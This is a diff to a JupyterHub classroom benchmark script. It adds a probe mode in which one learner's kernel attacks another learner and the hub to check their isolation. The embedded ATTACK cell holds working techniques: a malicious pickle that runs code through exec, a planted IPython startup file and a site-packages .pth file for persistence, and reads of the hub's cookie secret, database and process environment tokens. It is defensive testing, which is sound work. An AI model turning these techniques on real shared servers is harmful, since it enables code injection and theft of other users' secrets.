@@ -1,6 +1,7 @@
 """A class of N learners on one JupyterHub, on this machine, on loopback only.
 
     .venv/bin/python bench/classroom.py [--learners 30] [--arrival 0] [--timeout 900]
+    .venv/bin/python bench/classroom.py --probe      # 2 learners; learner 1 attacks learner 2
 
 Starts the classroom hub of deploy/ (deploy/jupyterhub_config.py, through deploy/hub.py's proxy
 set-up) in a temporary class folder on 127.0.0.1, then, for every learner at once (or spread
@@ -15,6 +16,14 @@ errors, and whether every learner's answer was saved in that learner's own folde
 else. Exits 1 when any learner fails or any answer is lost; 2 when the hub cannot start.
 Everything it starts is stopped at the end (the hub stops the learners' servers; leftovers are
 ended by pid). A benchmark, not a test: the numbers depend on the machine.
+
+``--probe`` is the attacker's view of the same hub (two learners): after both have read lesson
+01 and saved an answer, code run in learner 1's real kernel (over its websocket, as a notebook
+cell would) tries to reach learner 2 and the hub (see ``ATTACK``); then learner 2 opens a fresh
+kernel and runs lesson 01's first cells again, and the probe checks nothing learner 1 planted
+ran or showed there and learner 2's answers are unchanged. Prints ``isolation: K of N attempts
+refused`` and exits 1 if any attempt succeeded. Run as root (the hub then gives each learner a
+system account); ``MEDIAKIT_SHARED_ACCOUNT=1`` shows what the old shared account gave away.
 """
 
 from __future__ import annotations
@@ -80,6 +89,8 @@ class Learner:
     error: str | None = None
     saved: dict | None = None
     kernel_id: str | None = None
+    token: str | None = None
+    voila: float | None = None
 
 
 # --------------------------------------------------------------------------- memory sampling
@@ -240,7 +251,8 @@ async def learner_session(
             json={"note": "classroom benchmark", "expires_in": 3600},
         )
         r.raise_for_status()
-        auth = {"Authorization": f"token {r.json()['token']}"}
+        who.token = r.json()["token"]
+        auth = {"Authorization": f"token {who.token}"}
         r = await client.post(f"/hub/api/users/{who.name}/server", headers=auth)
         if r.status_code not in (201, 202, 400):  # 400: already running
             raise RuntimeError(
@@ -459,6 +471,302 @@ def check_answers(learners: list[Learner], class_dir: Path) -> dict[str, str]:
     return problems
 
 
+# --------------------------------------------------------------------------- the probe
+
+# Run in learner 1's kernel, as a notebook cell. Each attempt is real: it opens, writes or
+# signals what a curious learner would. FACTS (paths, pids, urls) are what an attacker learns by
+# looking around the machine; the probe hands them over to keep the cell short.
+ATTACK = r"""
+import json as _j, os as _o, pickle as _p, signal as _s, urllib.request as _u
+F = _j.loads(FACTS)
+R = {}
+MARK = F["marker"]
+RUN = ("import os\nopen(%r + '-' + str(os.getuid()), 'w').write('ran')\nprint(%r)\n"
+       % (MARK, "PROBE-PLANTED " + F["token"]))
+class _Evil:
+    def __reduce__(self):
+        return (exec, (RUN,))
+EVIL = _p.dumps(_Evil())
+
+def attempt(name, fn):
+    try:
+        got = fn()
+        R[name] = [bool(got), str(got)[:120] if got else "nothing"]
+    except OSError as exc:
+        R[name] = [False, f"{type(exc).__name__}: {exc.strerror or exc}"]
+    except Exception as exc:
+        R[name] = [False, f"{type(exc).__name__}: {str(exc)[:100]}"]
+
+def read_answers():
+    out = []
+    for name in _o.listdir(F["victim_answers"]):
+        with open(_o.path.join(F["victim_answers"], name)) as fh:
+            out.append(fh.read(80))
+    return "read: " + " | ".join(out) if out else None
+
+def write_answers():
+    path = _o.path.join(F["victim_answers"], "planted-by-learner1.json")
+    with open(path, "w") as fh:
+        fh.write("{}")
+    return f"wrote {path}"
+
+def read_file(path):
+    def go():
+        with open(path, "rb") as fh:
+            return f"read {len(fh.read())} bytes of {path}"
+    return go
+
+def read_env(pid, key):
+    def go():
+        with open(f"/proc/{pid}/environ", "rb") as fh:
+            env = fh.read().split(b"\0")
+        hit = [e for e in env if e.startswith(key.encode() + b"=")]
+        return f"found {hit[0][:len(key) + 4].decode()}..." if hit else None
+    return go
+
+def plant_in(folders):
+    def go():
+        done = []
+        for top in folders:
+            for root, dirs, files in _o.walk(top):
+                for f in files:
+                    path = _o.path.join(root, f)
+                    try:
+                        with open(path, "r+b") as fh:
+                            fh.seek(0)
+                            fh.truncate()
+                            fh.write(EVIL if not f.endswith(".json") else
+                                     _j.dumps({"text": "PROBE-CHANGED " + F["token"]}).encode())
+                        done.append(path)
+                    except OSError:
+                        pass
+                try:
+                    path = _o.path.join(root, "planted-by-learner1.pickle")
+                    with open(path, "wb") as fh:
+                        fh.write(EVIL)
+                    done.append(path)
+                except OSError:
+                    pass
+        return f"planted {len(done)} files, e.g. {done[0]}" if done else None
+    return go
+
+def plant_startup():
+    folder = _o.path.join(F["victim_home"], ".ipython", "profile_default", "startup")
+    _o.makedirs(folder, exist_ok=True)
+    path = _o.path.join(folder, "00-planted.py")
+    with open(path, "w") as fh:
+        fh.write(RUN)
+    return f"wrote {path}"
+
+def plant_kit():
+    done = []
+    for path, text in ((F["site_pth"], "import os; exec(%r)\n" % RUN), (F["kit_module"], RUN)):
+        try:
+            with open(path, "x") as fh:
+                fh.write(text)
+            done.append(path)
+        except OSError:
+            pass
+    return "wrote " + ", ".join(done) if done else None
+
+def runtime_dir():
+    names = _o.listdir(F["victim_runtime"])
+    return f"listed {len(names)} kernel files of learner 2" if names else "listed (empty)"
+
+def signal_kernel():
+    _o.kill(F["victim_kernel_pid"], _s.SIGCONT)
+    return f"signalled pid {F['victim_kernel_pid']}"
+
+def hub_api():
+    token = _o.environ["JUPYTERHUB_API_TOKEN"]
+    url = F["hub"] + f"/user/{F['victim']}/api/contents/answers"
+    req = _u.Request(url, headers={"Authorization": f"token {token}"})
+    with _u.urlopen(req, timeout=20) as r:
+        return f"HTTP {r.status} on {url}" if r.status == 200 else None
+
+attempt("read learner 2's answers", read_answers)
+attempt("write into learner 2's answers folder", write_answers)
+attempt("read the hub's cookie secret", read_file(F["cookie_secret"]))
+attempt("read the hub's database", read_file(F["database"]))
+attempt("read the class code from the hub's environment", read_env(F["hub_pid"], "MEDIAKIT_CLASS_CODE"))
+attempt("read the proxy's token from its environment", read_env(F["proxy_pid"], "CONFIGPROXY_AUTH_TOKEN"))
+attempt("plant a file in the class's shared cache", plant_in([F["class_cache"]]))
+attempt("plant a file in learner 2's own cache", plant_in([F["victim_cache"]]))
+attempt("plant a startup file in learner 2's IPython profile", plant_startup)
+attempt("write into the installed kit (package folder, site-packages .pth)", plant_kit)
+attempt("read learner 2's kernel connection files", runtime_dir)
+attempt("signal learner 2's kernel", signal_kernel)
+attempt("open learner 2's server with learner 1's token", hub_api)
+print("MEDIAKIT-PROBE " + _j.dumps(R))
+"""
+
+
+def probe_facts(
+    proc: subprocess.Popen, class_dir: Path, victim: Learner, url: str, token: str
+) -> dict:
+    """What an attacker would find by looking around: paths, pids, the hub's address."""
+    import sysconfig
+
+    import psutil
+
+    import mediakit
+
+    hub_pid = proxy_pid = kernel_pid = 0
+    for p in psutil.Process(proc.pid).children(recursive=True):
+        try:
+            cmd = " ".join(p.cmdline())
+            if "jupyterhub" in cmd and "-f" in cmd and "singleuser" not in cmd:
+                hub_pid = hub_pid or p.pid
+            elif "configurable-http-proxy" in cmd:
+                proxy_pid = proxy_pid or p.pid
+            elif "ipykernel" in cmd and p.environ().get("MEDIAKIT_LEARNER") == victim.name:
+                kernel_pid = p.pid
+        except psutil.Error:
+            continue
+    if not (hub_pid and proxy_pid and kernel_pid):
+        raise RuntimeError(
+            f"probe: hub {hub_pid}, proxy {proxy_pid}, kernel {kernel_pid} not found"
+        )
+    home = class_dir / "learners" / victim.name
+    runtime = Path(tempfile.gettempdir()) / f"mediakit-hub-{os.getuid()}" / victim.name
+    return {
+        "victim": victim.name,
+        "victim_home": str(home),
+        "victim_answers": str(home / "answers"),
+        "victim_cache": str(home / ".cache" / "mediakit"),
+        "victim_runtime": str(runtime),
+        "victim_kernel_pid": kernel_pid,
+        "class_cache": str(class_dir / "cache"),
+        "cookie_secret": str(class_dir / "hub" / "jupyterhub_cookie_secret"),
+        "database": str(class_dir / "hub" / "jupyterhub.sqlite"),
+        "hub_pid": hub_pid,
+        "proxy_pid": proxy_pid,
+        "hub": url,
+        "site_pth": str(Path(sysconfig.get_paths()["purelib"]) / "zz-planted-by-learner1.pth"),
+        "kit_module": str(Path(mediakit.__file__).parent / "planted_by_learner1.py"),
+        "marker": str(Path(tempfile.gettempdir()) / f"mediakit-probe-{token}"),
+        "token": token,
+    }
+
+
+async def kernel_cells(hub: str, who: Learner, cells: list[str], timeout: float) -> list[str]:
+    """Start a fresh kernel on a learner's server (their token), run cells, return every output
+    as text (streams and every mime type of displays)."""
+    import httpx
+    from tornado.httpclient import HTTPRequest
+    from tornado.websocket import websocket_connect
+
+    auth = {"Authorization": f"token {who.token}"}
+    base = f"/user/{who.name}"
+    async with httpx.AsyncClient(base_url=hub, timeout=60) as client:
+        r = await client.post(f"{base}/api/kernels", headers=auth, json={"name": "python3"})
+        r.raise_for_status()
+        kid = r.json()["id"]
+    ws = await websocket_connect(
+        HTTPRequest(
+            hub.replace("http://", "ws://") + f"{base}/api/kernels/{kid}/channels",
+            headers=auth,
+            connect_timeout=120,
+            request_timeout=120,
+        ),
+        max_message_size=64 * MB,
+    )
+    texts: list[str] = []
+    try:
+        session = uuid.uuid4().hex
+        for cell in cells:
+            for o in await run_cell(ws, session, cell, timeout):
+                texts.append(json.dumps(o["content"]))
+    finally:
+        ws.close()
+    return texts
+
+
+def run_probe(
+    proc: subprocess.Popen, class_dir: Path, learners: list[Learner], url: str, timeout: float
+) -> tuple[int, int, list[str]]:
+    """Learner 1 attacks learner 2; returns (refused, attempts, report lines)."""
+    attacker, victim = learners[0], learners[1]
+    token = uuid.uuid4().hex[:16]
+    facts = probe_facts(proc, class_dir, victim, url, token)
+    answers = class_dir / "learners" / victim.name / "answers"
+    before = {f.name: f.read_bytes() for f in answers.iterdir()}
+    planted = [Path(facts["site_pth"]), Path(facts["kit_module"])]
+    lines: list[str] = []
+    try:
+        code = f"FACTS = {json.dumps(json.dumps(facts))}\n" + ATTACK
+        outs = asyncio.run(kernel_cells(url, attacker, [code], timeout))
+        line = next(
+            (
+                x
+                for o in outs
+                for x in json.loads(o).get("text", "").splitlines()
+                if x.startswith("MEDIAKIT-PROBE ")
+            ),
+            None,
+        )
+        if line is None:
+            raise RuntimeError(f"the attack printed no result: {outs[:2]}")
+        results: dict[str, list] = json.loads(line.split(" ", 1)[1])
+        # learner 2 opens lesson 01 again in a fresh kernel: did anything planted run or show?
+        cells, _reader = lesson_cells()
+        seen = asyncio.run(kernel_cells(url, victim, cells, timeout))
+        shown = "\n".join(seen)
+        ran = sorted(Path(tempfile.gettempdir()).glob(f"mediakit-probe-{token}*"))
+        hit = ran or token in shown
+        results["planted code ran, or planted data showed, in learner 2's lesson"] = [
+            bool(hit),
+            f"markers {[m.name for m in ran]}, token in output: {token in shown}"
+            if hit
+            else "nothing",
+        ]
+        after = {f.name: f.read_bytes() for f in answers.iterdir()}
+        results["learner 2's answers changed"] = [
+            after != before,
+            f"files before {sorted(before)}, after {sorted(after)}" if after != before else "same",
+        ]
+    finally:
+        for f in planted + sorted(Path(tempfile.gettempdir()).glob("mediakit-probe-*")):
+            f.unlink(missing_ok=True)
+    refused = sum(1 for ok, _why in results.values() if not ok)
+    for name, (ok, why) in results.items():
+        lines.append(f"  {'SUCCEEDED' if ok else 'refused  '} {name}: {why}")
+    return refused, len(results), lines
+
+
+async def voila_page(hub: str, who: Learner, lesson: str = "01_sourcing.ipynb") -> float:
+    """Seconds to get a lesson as a Voila page from the learner's running server (Voila runs
+    every cell before it answers, so the page holds the first exercise when it arrives)."""
+    import httpx
+
+    auth = {"Authorization": f"token {who.token}"}
+    async with httpx.AsyncClient(base_url=hub, timeout=120) as client:
+        t = time.perf_counter()
+        r = await client.get(f"/user/{who.name}/voila/render/lessons/{lesson}", headers=auth)
+        took = time.perf_counter() - t
+        r.raise_for_status()
+        if "lesson-exercise" not in r.text and "exercise" not in r.text:
+            raise RuntimeError("the Voila page shows no exercise")
+    return took
+
+
+def remove_accounts(learners: list[Learner]) -> None:
+    """Remove the system accounts the hub made for the benchmark's learners (root only)."""
+    import pwd
+
+    sys.path.insert(0, str(DEPLOY))
+    from classroom_hub import system_name
+
+    for w in learners:
+        account = system_name(w.name)
+        try:
+            entry = pwd.getpwnam(account)
+        except KeyError:
+            continue
+        if entry.pw_gecos == f"mediakit learner {w.name}":
+            subprocess.run(["userdel", account], capture_output=True)
+
+
 def pct(values: list[float], q: float) -> float:
     values = sorted(values)
     if not values:
@@ -491,7 +799,21 @@ def main(argv: list[str] | None = None) -> int:
         default="classcode",
         help="firstuse: a roster of the learners, each sets a password at first login",
     )
+    ap.add_argument(
+        "--probe",
+        action="store_true",
+        help="2 learners; learner 1's kernel attacks learner 2 and the hub (exit 1 if any works)",
+    )
+    ap.add_argument(
+        "--voila",
+        action="store_true",
+        help="the hub in Voila mode; also time lesson 01 as a Voila page, once the server is up",
+    )
     args = ap.parse_args(argv)
+    if args.voila:
+        os.environ["MEDIAKIT_HUB_UI"] = "voila"
+    if args.probe:
+        args.learners = 2
     try:
         import httpx  # noqa: F401
         import jupyterhub  # noqa: F401
@@ -521,6 +843,7 @@ def main(argv: list[str] | None = None) -> int:
     with open(log_path, "wb") as log:
         proc, url = start_hub(class_dir, code, log)
         sampler = None
+        probe = None
         try:
             problem = wait_for_hub(proc, url)
             if problem:
@@ -533,6 +856,15 @@ def main(argv: list[str] | None = None) -> int:
             sampler.start()
             asyncio.run(run_class(learners, url, code, args.arrival, args.cell_timeout, limit))
             sampler.sample()
+            if args.voila:
+                for w in learners:
+                    if w.error is None:
+                        try:
+                            w.voila = asyncio.run(voila_page(url, w))
+                        except Exception as exc:
+                            w.error = f"Voila page: {type(exc).__name__}: {exc}"
+            if args.probe and not any(w.error for w in learners):
+                probe = run_probe(proc, class_dir, learners, url, args.cell_timeout)
         finally:
             if sampler:
                 sampler.stop.set()
@@ -557,6 +889,12 @@ def main(argv: list[str] | None = None) -> int:
                     f"  {stage:<8} reached at median {statistics.median(vals):6.1f} s,"
                     f" p95 {pct(vals, 0.95):6.1f} s"
                 )
+    pages = [w.voila for w in learners if w.voila is not None]
+    if pages:
+        print(
+            f"lesson 01 as a Voila page, server up (one learner at a time): median"
+            f" {statistics.median(pages):.1f} s, max {max(pages):.1f} s"
+        )
     if sampler:
         kernels = [rss for _who, rss in sampler.kernel_peak.values()]
         if kernels:
@@ -576,6 +914,18 @@ def main(argv: list[str] | None = None) -> int:
             f" ({(sampler.machine_peak - sampler.machine_base) / MB:+.0f} MB over the"
             f" {sampler.machine_base / MB:.0f} MB in use before)"
         )
+    if args.probe:
+        if probe is None:
+            print("isolation: not probed (the learners did not get that far)")
+            failed.append(Learner("probe", error="the probe did not run"))
+        else:
+            k, n, lines = probe
+            print(f"isolation: {k} of {n} attempts refused")
+            print("\n".join(lines))
+            if k < n:
+                failed.append(Learner("probe", error=f"{n - k} attempts succeeded"))
+    if hasattr(os, "geteuid") and os.geteuid() == 0 and not args.keep:
+        remove_accounts(learners)
     print(f"a wrong class code is refused: {'yes' if refused else 'NO'}")
     if not refused:
         failed.append(Learner("intruder", error="a wrong class code was let in"))
